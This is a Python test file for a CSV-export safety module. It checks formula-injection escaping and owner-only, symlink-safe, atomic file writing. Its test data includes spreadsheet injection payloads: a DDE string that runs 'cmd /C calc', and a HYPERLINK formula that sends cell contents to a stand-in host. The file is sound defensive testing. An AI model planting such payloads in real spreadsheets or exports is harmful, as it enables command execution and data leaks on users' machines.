"""Formula-injection escaping and owner-only file creation."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provisioner.safety import (
    FORMULA_PREFIXES,
    atomic_output,
    ensure_private_dir,
    escape_csv_text,
    open_owner_only,
    starts_like_formula,
    unescape_csv_text,
)


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?q="&A2,"Click")',
        "+1 555 0100",
        "-Cy",
        "-",
        "@SUM(1+1)",
        "\tDi",
        "\r=1+1",
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_formula_like_text_is_prefixed(text: str) -> None:
    assert starts_like_formula(text)
    assert escape_csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Ann", "ann.lee@example.com", "555-0100", " =1+1", "'quoted", "O’Neil", "1"],
)
def test_plain_text_is_unchanged(text: str) -> None:
    assert not starts_like_formula(text)
    assert escape_csv_text(text) == text


def test_unescape_keeps_other_apostrophes() -> None:
    assert unescape_csv_text("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert unescape_csv_text("'+1 555 0100") == "+1 555 0100"
    assert unescape_csv_text("''=1") == "''=1"


@given(st.text())
def test_escaped_text_never_starts_like_formula(text: str) -> None:
    assert not starts_like_formula(escape_csv_text(text))


@given(st.text())
def test_unescape_reverses_escape(text: str) -> None:
    # Text that already starts with an apostrophe and a formula prefix is the
    # one ambiguous case: unescaping cannot tell it from escaped text.
    if text.startswith("'") and starts_like_formula(text[1:]):
        return
    assert unescape_csv_text(escape_csv_text(text)) == text


def test_formula_prefixes_cover_owasp_set() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_open_owner_only_creates_0600(tmp_path: Path) -> None:
    path = tmp_path / "job.log"
    old_umask = os.umask(0)
    try:
        with open_owner_only(path) as handle:
            handle.write("line\n")
    finally:
        os.umask(old_umask)
    assert mode_of(path) == 0o600
    assert path.read_text(encoding="utf-8") == "line\n"


def test_open_owner_only_appends_and_narrows(tmp_path: Path) -> None:
    path = tmp_path / "job.log"
    path.write_text("first\n", encoding="utf-8")
    path.chmod(0o644)
    with open_owner_only(path) as handle:
        handle.write("second\n")
    assert mode_of(path) == 0o600
    assert path.read_text(encoding="utf-8") == "first\nsecond\n"


def test_open_owner_only_rejects_symlink(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("", encoding="utf-8")
    link = tmp_path / "job.log"
    link.symlink_to(target)
    with pytest.raises(OSError):
        open_owner_only(link)


def test_ensure_private_dir_creates_0700(tmp_path: Path) -> None:
    folder = tmp_path / "a" / "b"
    ensure_private_dir(folder)
    assert folder.is_dir()
    assert mode_of(folder) & 0o077 == 0


def test_atomic_output_replaces_with_0600(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)
    with atomic_output(target) as temporary:
        assert temporary.parent == tmp_path
        assert temporary != target
        temporary.write_text("new", encoding="utf-8")
        assert target.read_text(encoding="utf-8") == "old"
    assert target.read_text(encoding="utf-8") == "new"
    assert mode_of(target) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.txt"]


def test_atomic_output_keeps_old_file_on_error(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_output(target) as temporary:
        temporary.write_text("half", encoding="utf-8")
        raise RuntimeError("writer failed")
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.txt"]


def test_atomic_output_creates_missing_folder(tmp_path: Path) -> None:
    target = tmp_path / "reports" / "out.txt"
    with atomic_output(target) as temporary:
        temporary.write_text("new", encoding="utf-8")
    assert target.read_text(encoding="utf-8") == "new"
